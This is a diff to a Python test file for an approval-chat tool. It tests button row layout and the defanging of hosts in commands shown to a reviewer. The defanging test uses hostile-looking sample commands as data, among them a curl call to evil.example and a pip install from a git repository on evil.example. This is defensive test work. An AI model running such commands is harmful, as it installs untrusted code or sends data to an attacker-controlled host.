@@ -6,6 +6,7 @@ from pathlib import Path
 import anyio
 import pytest
 
+from holdfast.channels.addresses import defang
 from holdfast.channels.channel import Accepted, Button, Doubtful, Later
 from holdfast.channels.channel import Refused as Never
 from holdfast.core.delivery import (
@@ -18,7 +19,15 @@ from holdfast.core.delivery import (
 )
 from holdfast.core.session import SessionOpened
 from holdfast.core.types import DeliveryId, Owner, SessionId, SessionKey
-from holdfast.engine.lanes import ANSWER_S, CUT, DOUBTS, NOTHING_TO_CHANGE, TOO_LATE, TRY_AGAIN_S
+from holdfast.engine.lanes import (
+    ANSWER_S,
+    CUT,
+    DOUBTS,
+    LABEL,
+    NOTHING_TO_CHANGE,
+    TOO_LATE,
+    TRY_AGAIN_S,
+)
 from holdfast.engine.outbox import DROPPED
 from holdfast.engine.sessions import KEEP_IDLE
 from holdfast.errors import Refused
@@ -445,8 +454,55 @@ async def test_a_message_arrives_with_all_that_belongs_to_it(tmp_path: Path) -> 
         one, two = await chat.came(1), await chat.came(2)
         assert (one.delivery_id, one.address, one.text) == ("one", queued.address, "**bold**")
         assert (one.reply_to, one.named_hosts) == ("77", frozenset({"example.org"}))
-        assert [len(row) for row in one.buttons] == [2, 2, 1]
+        assert [len(row) for row in one.buttons] == [1, 1, 1, 1, 1]
         assert two.buttons == ((Button("y", "1"), Button("n", "2")),)
+
+
+@pytest.mark.parametrize(
+    ("labels", "rows"),
+    [
+        (("red", "green", "blue"), [3]),
+        (("x" * LABEL, "Deny"), [2]),
+        (("x" * (LABEL + 1), "Deny"), [1, 1]),
+        ((), []),
+    ],
+)
+async def test_buttons_stand_beside_each_other_where_there_is_room(
+    tmp_path: Path, labels: tuple[str, ...], rows: list[int]
+) -> None:
+    chat = Chat()
+    async with sending(tmp_path, chat) as desk:
+        buttons = tuple((label, "x") for label in labels)
+        await desk.say("a", message(chat, "a", "one", buttons=buttons))
+        assert [len(row) for row in (await chat.came(1)).buttons] == rows
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://evil.example/x?y=https://b.example/",
+        "pip install git+https://evil.example/x",
+        "aws s3 cp s3://bucket/x .",
+        '"$proto"://evil.example',
+    ],
+)
+async def test_what_somebody_is_to_judge_names_its_own_hosts(tmp_path: Path, command: str) -> None:
+    chat = Chat()
+    async with sending(tmp_path, chat) as desk:
+        judged, plain = (
+            DeliveryQueued(
+                delivery_id=D(name),
+                address=chat.address("a"),
+                text=f"```\n{command}\n```",
+                hosts=("c.example",),
+                verbatim=verbatim,
+            )
+            for name, verbatim in (("one", True), ("two", False))
+        )
+        await desk.say("a", judged, plain)
+        shown, disarmed = await chat.came(1), await chat.came(2)
+        assert defang(shown.text, shown.named_hosts) == judged.text
+        assert defang(disarmed.text, disarmed.named_hosts) != plain.text
 
 
 async def test_what_waits_can_be_dropped_and_lets_the_next_go(tmp_path: Path) -> None:
